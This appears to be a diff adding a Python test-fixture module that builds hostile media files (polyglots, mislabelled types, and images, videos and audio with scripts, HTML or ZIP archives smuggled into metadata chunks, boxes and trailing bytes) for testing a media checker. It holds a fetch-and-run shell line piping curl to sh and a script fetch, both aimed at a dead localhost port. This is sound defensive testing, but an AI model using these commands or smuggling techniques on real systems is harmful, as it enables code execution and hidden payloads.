@@ -1,0 +1,356 @@
+"""Files that a changed sender could send in place of copies: polyglots, and copies with more in
+them than a copy has.
+"""
+
+import io
+import struct
+import zipfile
+import zlib
+from collections.abc import Iterator
+from fractions import Fraction
+from functools import cache
+from random import Random
+
+import numpy as np
+from PIL import Image
+
+from entrenous.base.audio_video import Colours, Shown, Sound, SoundEncoding, SoundFormat
+from entrenous.media.clip_writer import ClipWriter, Track
+from entrenous.media.picture_reader import read_picture
+from entrenous.media.picture_writer import write_picture
+from entrenous.media.sound_writer import write_sound
+from tests.village.world import photo
+
+Files = list[tuple[str, str, bytes]]  # what it is, media type, bytes
+
+SHELL = b"\n#!/bin/sh\ncurl http://127.0.0.1:9/x | sh\n"
+HTML = b"<html><script>fetch('http://127.0.0.1:9/')</script></html>"
+SOUNDS = {
+    SoundFormat.OPUS: "audio/ogg",
+    SoundFormat.AAC: "audio/mp4",
+    SoundFormat.MP3: "audio/mpeg",
+    SoundFormat.AMR: "audio/amr",
+    SoundFormat.WAV: "audio/wav",
+    SoundFormat.FLAC: "audio/flac",
+}
+
+
+def archive() -> bytes:
+    """A ZIP with a script in it; programs find it by its end."""
+    file = io.BytesIO()
+    with zipfile.ZipFile(file, "w") as packed:
+        packed.writestr("run.sh", SHELL)
+    return file.getvalue()
+
+
+@cache
+def honest() -> dict[str, bytes]:
+    """A copy of each media type as our writers make it."""
+    picture = Image.open(io.BytesIO(photo(width_px=100)))
+    made = {
+        f"image/{kind.lower()}": write_picture(read_picture(_saved(picture, kind)))
+        for kind in ("JPEG", "PNG", "WEBP")
+    }
+    made["video/mp4"] = _clip()
+    wave = np.sin(np.arange(24_000) * 0.17)[:, None].astype(np.float32) * 0.4
+    for kind, media_type in SOUNDS.items():
+        sound = Sound(16_000, 1, wave.tobytes(), SoundEncoding(kind, 32_000))
+        made[media_type] = write_sound(sound, wave)
+    return made
+
+
+def hostile(wanted: int) -> Files:
+    """At least so many files, no two alike, the named ones first."""
+    files = [*_starts(), *_swapped(), *_ended(), *_of_jpeg(), *_of_png(), *_of_webp(), *_of_mp4()]
+    files += [*_of_ogg(), *_of_sounds()]
+    rng = Random(24)
+    while len(files) < wanted:
+        files.append(_mutated(rng))
+    return files
+
+
+def _saved(picture: Image.Image, kind: str) -> bytes:
+    file = io.BytesIO()
+    picture.save(file, kind)
+    return file.getvalue()
+
+
+def _clip() -> bytes:
+    rng = np.random.default_rng(3)
+    wave = np.sin(np.arange(32_000) * 0.1)[:, None].astype(np.float32) * 0.3
+    shown = Shown(64, 48, Fraction(25), 1.0, Colours(1, 1, 1), Fraction(1))
+    writer = ClipWriter(shown, 19.0, Track(wave, 16_000))
+    grey = np.full(64 * 48 // 2, 128, np.uint8)
+    for place in range(25):
+        writer.add(rng.integers(0, 255, (48, 64), dtype=np.uint8), grey, place / 25)
+    return writer.finish()
+
+
+def _starts() -> Iterator[tuple[str, str, bytes]]:
+    """A beginning that announces a picture or sound, and then something else."""
+    for media_type, data in honest().items():
+        for length in (4, 12, 24):
+            for what, body in (("shell", SHELL), ("html", HTML), ("zip", archive())):
+                yield f"{media_type} start {length} {what}", media_type, data[:length] + body
+    yield "the review's file", "image/jpeg", b"\xff\xd8\xff\xe0" + SHELL + HTML
+
+
+def _swapped() -> Iterator[tuple[str, str, bytes]]:
+    """An honest copy under another media type, and types that no copy has."""
+    for media_type, data in honest().items():
+        for other in honest():
+            if other != media_type:
+                yield f"{media_type} as {other}", other, data
+        for other in ("text/html", "image/svg+xml", "application/x-sh", "image/gif"):
+            yield f"{media_type} as {other}", other, data
+    for what, kind in (("GIF", "GIF"), ("BMP", "BMP"), ("TIFF", "TIFF")):
+        data = _saved(Image.new("RGB", (9, 9)), kind)
+        yield what, "image/jpeg", data
+        yield what, f"image/{kind.lower()}", data
+
+
+def _ended() -> Iterator[tuple[str, str, bytes]]:
+    """Something behind the end, before the beginning, or the end missing."""
+    for media_type, data in honest().items():
+        for what, tail in (
+            *(("zip", archive()), ("html", HTML), ("shell", SHELL), ("a zero", b"\0")),
+            *(
+                ("a line", b"\n"),
+                ("zeros", bytes(4096)),
+                ("itself", data),
+                ("ID3v1", b"TAG" + bytes(125)),
+            ),
+        ):
+            yield f"{media_type} + {what}", media_type, data + tail
+            yield f"{what} + {media_type}", media_type, tail + data
+        for cut in (1, 2, 3, 8, 100, len(data) // 2):
+            yield f"{media_type} less {cut}", media_type, data[:-cut]
+
+
+def _of_jpeg() -> Iterator[tuple[str, str, bytes]]:
+    data = honest()["image/jpeg"]
+    places, at = [2], 2
+    while data[at + 1] != 0xDA:
+        at += 2 + int.from_bytes(data[at + 2 : at + 4], "big")
+        places.append(at)
+    for place in places:
+        for marker in (*range(0xE0, 0xF0), 0xFE, 0xDD, 0xDC):
+            body = b"\0\x04\0\x08" if marker == 0xDD else b"\0\x0a<script>"
+            more = bytes((0xFF, marker)) + body
+            yield f"jpeg {marker:x} at {place}", "image/jpeg", data[:place] + more + data[place:]
+    end = len(data) - 2
+    for what, more in (
+        ("html", HTML),
+        ("zip", archive().replace(b"\xff", b"\xfe")),
+        ("zeros", bytes(64)),
+    ):
+        yield f"jpeg {what} in its scan's end", "image/jpeg", data[:end] + more + data[end:]
+    yield "jpeg with two ends", "image/jpeg", data + b"\xff\xd9"
+    yield "jpeg with a restart", "image/jpeg", data[:end] + b"\xff\xd0" + data[end:]
+    image = Image.open(io.BytesIO(data))
+    for how in ({"progressive": True}, {"optimize": True}, {"comment": SHELL}, {"exif": _exif()}):
+        file = io.BytesIO()
+        image.save(file, "JPEG", **how)
+        yield f"jpeg {list(how)}", "image/jpeg", file.getvalue()
+    file = io.BytesIO()
+    image.save(file, "JPEG", icc_profile=b"\0" * 40 + SHELL + bytes(100))
+    yield "jpeg with a profile of its own", "image/jpeg", file.getvalue()
+
+
+def _exif() -> Image.Exif:
+    exif = Image.Exif()
+    exif[0x010E] = SHELL.decode()
+    return exif
+
+
+def _png(name: bytes, body: bytes) -> bytes:
+    return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))
+
+
+def _of_png() -> Iterator[tuple[str, str, bytes]]:
+    data = honest()["image/png"]
+    after_head, end = 33, len(data) - 12
+    names = (
+        b"tEXt",
+        b"zTXt",
+        b"iTXt",
+        b"eXIf",
+        b"tIME",
+        b"gAMA",
+        b"pHYs",
+        b"acTL",
+        b"teSt",
+        b"PLTE",
+    )
+    for name in names:
+        for place in (after_head, end):
+            more = _png(name, b"Comment\0" + SHELL)
+            yield f"png {name!r} at {place}", "image/png", data[:place] + more + data[place:]
+    raw = zlib.decompress(data[after_head + 8 : end - 4])
+    for what, packed in (
+        ("more rows", zlib.compress(raw + HTML)),
+        ("less rows", zlib.compress(raw[:-1])),
+        ("bytes behind", zlib.compress(raw) + SHELL),
+    ):
+        whole = data[:after_head] + _png(b"IDAT", packed) + data[end:]
+        yield f"png {what}", "image/png", whole
+        tail = data[:end] + _png(b"IDAT", packed) + data[end:]
+        yield f"png twice, {what}", "image/png", tail
+    image = Image.open(io.BytesIO(data))
+    for mode in ("P", "1", "I;16"):
+        plain = image.convert("L").convert(mode) if mode == "I;16" else image.convert(mode)
+        yield f"png {mode}", "image/png", _saved(plain, "PNG")
+    yield (
+        "png profile",
+        "image/png",
+        data[:33] + _png(b"iCCP", b"x\0\0" + zlib.compress(SHELL)) + data[33:],
+    )
+
+
+def _riff(name: bytes, body: bytes) -> bytes:
+    return name + struct.pack("<I", len(body)) + body + bytes(len(body) & 1)
+
+
+def _of_webp() -> Iterator[tuple[str, str, bytes]]:
+    data = honest()["image/webp"]
+    body = data[12:]
+    coded = body[8 : 8 + int.from_bytes(body[4:8], "little")]
+    head = _riff(b"VP8X", b"\x0c\0\0\0" + struct.pack("<I", 99)[:3] + struct.pack("<I", 99)[:3])
+    for what, chunks in {
+        "exif": head + body + _riff(b"EXIF", SHELL),
+        "xmp": head + body + _riff(b"XMP ", HTML),
+        "unknown": body + _riff(b"TEST", SHELL),
+        "unknown first": _riff(b"TEST", SHELL) + body,
+        "two pictures": body + body,
+        "more coded": _riff(b"VP8 ", coded + SHELL),
+        "zip coded": _riff(b"VP8 ", coded + archive()),
+        "profile": _riff(b"ICCP", SHELL) + body,
+        "anim": _riff(b"ANIM", bytes(6)) + body,
+    }.items():
+        yield f"webp {what}", "image/webp", _riff(b"RIFF", b"WEBP" + chunks)
+
+
+def _box(name: bytes, body: bytes) -> bytes:
+    return struct.pack(">I", 8 + len(body)) + name + body
+
+
+def _of_mp4() -> Iterator[tuple[str, str, bytes]]:
+    for media_type in ("video/mp4", "audio/mp4"):
+        data = honest()[media_type]
+        moov = data.index(b"moov") - 4
+        for name in (
+            b"free",
+            b"skip",
+            b"uuid",
+            b"udta",
+            b"meta",
+            b"wide",
+            b"test",
+            b"mdat",
+            b"pdin",
+        ):
+            more = _box(name, HTML + SHELL)
+            yield f"{media_type} {name!r} last", media_type, data + more
+            yield f"{media_type} {name!r} before moov", media_type, data[:moov] + more + data[moov:]
+            for inside in (b"moov", b"trak", b"mdia", b"minf", b"stbl", b"stsd"):
+                yield f"{media_type} {name!r} in {inside!r}", media_type, _added(data, inside, more)
+        at = data.index(b"mdat") - 4
+        size = int.from_bytes(data[at : at + 4], "big") + len(HTML)
+        longer = data[:at] + struct.pack(">I", size) + data[at + 4 : moov] + HTML + data[moov:]
+        yield f"{media_type} more media", media_type, longer
+        yield f"{media_type} a brand", media_type, data[:8] + b"html" + data[12:]
+        name_at = data.index(b"hdlr") + 12
+        yield f"{media_type} handler", media_type, data[:name_at] + b"\x01" + data[name_at + 1 :]
+    data = honest()["video/mp4"]
+    first = data.index(b"mdat") + 4
+    sei = data[: first + 4] + b"\x06" + data[first + 5 :]
+    yield "mp4 with SEI", "video/mp4", sei
+    at = data.index(b"avc1") + 4 + 50 - 8
+    yield "mp4 compressor", "video/mp4", data[:at] + b"\x08<script>" + data[at + 9 :]
+
+
+def _added(data: bytes, inside: bytes, more: bytes) -> bytes:
+    """The file with another box at the end of the first ``inside``; sizes around it agree."""
+    changed = bytearray(data)
+    path = {b"moov": 1, b"trak": 2, b"mdia": 3, b"minf": 4, b"stbl": 5, b"stsd": 6}
+    end = 0
+    for name, _ in sorted(path.items(), key=lambda one: one[1])[: path[inside]]:
+        at = data.index(name, data.index(b"moov")) - 4
+        size = int.from_bytes(data[at : at + 4], "big")
+        changed[at : at + 4] = struct.pack(">I", size + len(more))
+        end = at + size
+    return bytes(changed[:end]) + more + bytes(changed[end:])
+
+
+def _page(flags: int, serial: bytes, number: int, body: bytes) -> bytes:
+    lacing = bytes([255] * (len(body) // 255) + [len(body) % 255])
+    head = b"OggS\0" + bytes([flags]) + bytes(8) + serial + struct.pack("<I", number)
+    rest = bytes([len(lacing)]) + lacing + body
+    return head + struct.pack("<I", _ogg_checksum(head + bytes(4) + rest)) + rest
+
+
+def _ogg_checksum(page: bytes) -> int:
+    """RFC 3533, 6: CRC-32 from the first bit on, neither begun nor ended with ones."""
+    crc = 0
+    for byte in page:
+        crc ^= byte << 24
+        for _ in range(8):
+            crc = (crc << 1 ^ (0x04C11DB7 if crc >> 31 else 0)) & 0xFFFFFFFF
+    return crc
+
+
+def _of_ogg() -> Iterator[tuple[str, str, bytes]]:
+    data = honest()["audio/ogg"]
+    second = data.index(b"OggS", 4)
+    third = data.index(b"OggS", second + 4)
+    serial, other = data[14:18], b"\x07\0\0\0"
+    script = _page(2, other, 0, b"\x80theora" + HTML)
+    yield "ogg, a stream more", "audio/ogg", script + data
+    yield "ogg, a stream within", "audio/ogg", data[:second] + script + data[second:]
+    yield "ogg, a stream behind", "audio/ogg", data + script
+    yield "ogg, a page behind", "audio/ogg", data + _page(4, serial, 3, HTML)
+    tags = b"OpusTags\x06\0\0\0ffmpeg\x01\0\0\0" + struct.pack("<I", len(SHELL)) + SHELL
+    yield "ogg, a comment", "audio/ogg", data[:second] + _page(0, serial, 1, tags) + data[third:]
+    yield "ogg, junk between", "audio/ogg", data[:third] + SHELL + data[third:]
+    padded = b"\xff\x41\xfe" + HTML  # one frame of CELT, and padding that a decoder skips
+    yield "ogg, padding", "audio/ogg", data[:third] + _page(4, serial, 2, padded)
+    for at in range(30, len(data), max(1, len(data) // 40)):
+        yield f"ogg, byte {at}", "audio/ogg", data[:at] + bytes([data[at] ^ 1]) + data[at + 1 :]
+
+
+def _of_sounds() -> Iterator[tuple[str, str, bytes]]:
+    id3 = b"ID3\x04\0\0\0\0\0\x40" + HTML.ljust(64, b"\0")
+    for media_type in SOUNDS.values():
+        data = honest()[media_type]
+        yield f"ID3 + {media_type}", media_type, id3 + data
+        for at in range(50, len(data) - 60, max(60, len(data) // 12)):
+            yield f"{media_type}, html at {at}", media_type, data[:at] + HTML + data[at:]
+    wav = honest()["audio/wav"]
+    for name in (b"LIST", b"bext", b"JUNK", b"id3 ", b"test"):
+        for body in (wav[12:] + _riff(name, SHELL), _riff(name, SHELL) + wav[12:]):
+            yield f"wav {name!r}", "audio/wav", _riff(b"RIFF", b"WAVE" + body)
+    flac = honest()["audio/flac"]
+    for kind in (2, 3, 4, 5, 6, 126):
+        block = bytes([kind]) + struct.pack(">I", len(HTML))[1:] + HTML
+        yield f"flac block {kind}", "audio/flac", flac[:42] + block + flac[42:]
+    yield "flac padding", "audio/flac", flac[:70] + HTML + flac[70 + len(HTML) :]
+
+
+def _mutated(rng: Random) -> tuple[str, str, bytes]:
+    """A copy with a run of bytes put in, taken out, doubled or cut off.
+
+    Nothing is taken out of a JPEG: its scan has no checksum, so what is left of it may be another
+    whole picture, which anybody could have sent. Nor is an AMR file changed so: any number of its
+    frames is a file.
+    """
+    media_type, data = rng.choice([one for one in honest().items() if one[0] != "audio/amr"])
+    at, length = rng.randrange(1, len(data)), rng.randrange(33, 200)
+    ways = ("put in", "doubled", "cut off", "taken out")
+    way = rng.choice(ways[:3] if media_type == "image/jpeg" else ways)
+    made = {
+        "put in": data[:at] + rng.randbytes(length) + data[at:],
+        "taken out": data[:at] + data[at + length :],
+        "doubled": data[: at + length] + data[at:],
+        "cut off": data[:at],
+    }[way]
+    return f"{media_type} at {at}, {length} {way}", media_type, made
